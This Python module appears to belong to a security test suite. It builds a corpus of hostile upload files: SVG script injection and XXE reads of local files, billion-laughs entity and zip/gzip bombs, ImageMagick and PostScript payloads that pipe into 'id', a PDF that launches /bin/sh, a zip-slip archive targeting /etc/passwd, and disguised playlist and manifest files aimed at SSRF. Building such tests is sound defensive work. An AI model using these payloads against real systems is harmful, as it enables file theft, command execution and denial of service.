"""Texts, drawings, documents and archives that ask their readers to run, fetch or unpack something."""

import gzip
import struct
import zlib

from tests.corpus import hostile
from tests.corpus.attacks.pictures import archive, zeros_packed
from tests.corpus.attacks.target import Attack, Target

_SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'


def _drawing(inner: str, before: str = "") -> bytes:
    return f'<?xml version="1.0"?>{before}{_SVG}{inner}</svg>'.encode()


def _entities() -> str:
    levels = "".join(f'<!ENTITY l{level} "{f"&l{level - 1};" * 10}">' for level in range(1, 10))
    return f'<!DOCTYPE svg [<!ENTITY l0 "lol">{levels}]>'


def _pdf(action: str) -> bytes:
    catalog = f"1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<<{action}>>>>endobj"
    pages = "2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj"
    return f"%PDF-1.7\n{catalog}\n{pages}\ntrailer<</Root 1 0 R>>\n%%EOF".encode()


def _of_nothing(megabytes: int) -> bytes:
    packed = zeros_packed(megabytes)[2:-4]
    return gzip.compress(b"")[:10] + packed + struct.pack("<II", zlib.crc32(bytes(megabytes << 20)), megabytes << 20)


def _within_itself(depth: int) -> bytes:
    packed = archive({"0": bytes(1 << 20)})
    for level in range(depth):
        packed = archive({f"{level}.zip": packed, f"{level}-again.zip": packed})
    return packed


def _word_document(target: Target) -> bytes:
    relation = f'<Relationships><Relationship TargetMode="External" Target="{target.url}"/></Relationships>'
    return archive({"word/_rels/document.xml.rels": relation.encode(), "[Content_Types].xml": b"<Types/>"})


DOCUMENTS = {
    "drawing with a script": Attack("a.svg", lambda target: _drawing("<script>alert(document.domain)</script>")),
    "drawing that shows a file": Attack(
        "a.svg", lambda target: _drawing(f'<image xlink:href="file://{target.path}"/>')
    ),
    "drawing of a thousand million words": Attack("a.svg", lambda target: _drawing("&l9;", _entities())),
    "drawing with a file for an entity": Attack(
        "a.svg", lambda target: _drawing("&x;", f'<!DOCTYPE svg [<!ENTITY x SYSTEM "file://{target.path}">]>')
    ),
    "drawing called a picture": Attack("a.png", lambda target: _drawing("<script>alert(1)</script>")),
    "commands for ImageMagick called a picture": Attack(
        "a.jpg",
        lambda target: (
            f"push graphic-context\nimage over 0,0 0,0 'url({target.url}\"|id\")'\npop graphic-context".encode()
        ),
    ),
    "commands for ImageMagick": Attack(
        "a.mvg", lambda target: f"push graphic-context\nfill 'url({target.url})'\npop graphic-context".encode()
    ),
    "program for a printer called a picture": Attack(
        "a.jpg", lambda target: f"%!PS\n({target.path}) (r) file closefile\n%pipe%id".encode()
    ),
    "program for a printer": Attack("a.eps", lambda target: f"%!PS\n({target.path}) run\n".encode()),
    "page called a video": Attack("a.mp4", lambda target: hostile.html().read_bytes()),
    "playlist called a video": Attack("a.mp4", lambda target: hostile.hls_playlist(target.path).read_bytes()),
    "playlist of addresses called a video": Attack(
        "a.mp4",
        lambda target: f'#EXTM3U\n#EXT-X-KEY:METHOD=AES-128,URI="{target.url}"\n#EXTINF:1,\n{target.url}\n'.encode(),
    ),
    "list to be joined called a video": Attack("a.webm", lambda target: hostile.ffconcat(target.path).read_bytes()),
    "manifest called a video": Attack("a.mp4", lambda target: hostile.dash_manifest(target.path).read_bytes()),
    "description of a session called a video": Attack(
        "a.mp4",
        lambda target: (
            f"v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nu={target.url}\nc=IN IP4 127.0.0.1\nm=video 5004 RTP/AVP\n".encode()
        ),
    ),
    "playlist": Attack("a.m3u8", lambda target: hostile.hls_playlist(target.path).read_bytes()),
    "document with a script": Attack("a.pdf", lambda target: _pdf("/S/JavaScript/JS(app.alert(1))")),
    "document that starts a program": Attack("a.pdf", lambda target: _pdf("/S/Launch/F(/bin/sh)")),
    "document that sends itself": Attack("a.pdf", lambda target: _pdf(f"/S/SubmitForm/F({target.url})")),
    "document called a picture": Attack("a.jpg", lambda target: _pdf("/S/JavaScript/JS(app.alert(1))")),
    "archive of places above": Attack(
        "a.zip", lambda target: archive({"../../../../etc/passwd": b"root::0:0::/:", "/etc/shadow": b""})
    ),
    "archive of archives": Attack("a.zip", lambda target: _within_itself(6)),
    "archive that unpacks to 64 megabytes": Attack("a.gz", lambda target: _of_nothing(64)),
    "word document with a relation": Attack("a.docx", _word_document),
    "program": Attack("a.mp4", lambda target: b"\x7fELF\2\1\1" + bytes(200)),
    "nothing but zeros called a video": Attack("a.mp4", lambda target: bytes(5000)),
}
